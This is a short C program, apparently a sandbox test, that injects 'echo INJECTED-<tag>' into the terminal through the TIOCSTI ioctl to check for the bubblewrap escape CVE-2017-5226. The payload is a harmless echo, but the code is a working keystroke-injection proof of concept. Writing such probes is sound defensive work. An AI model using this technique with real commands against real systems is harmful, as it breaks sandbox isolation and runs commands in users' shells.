/* Tries to push "echo INJECTED-<tag>" and a newline into the terminal on
 * stdin with TIOCSTI: the keystrokes would run in the shell outside the
 * sandbox once the command exits (CVE-2017-5226 in bubblewrap). Prints
 * "TIOCSTI: pushed" or "TIOCSTI: <strerror>"; exits 0 only when pushed.
 * Usage: tiocsti TAG */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <termios.h>

int main(int argc, char **argv)
{
    char text[128];
    snprintf(text, sizeof text, "echo INJECTED-%s\n", argc > 1 ? argv[1] : "x");
    for (const char *c = text; *c; c++) {
        if (ioctl(0, TIOCSTI, c) < 0) {
            printf("TIOCSTI: %s\n", strerror(errno));
            return 1;
        }
    }
    printf("TIOCSTI: pushed\n");
    return 0;
}
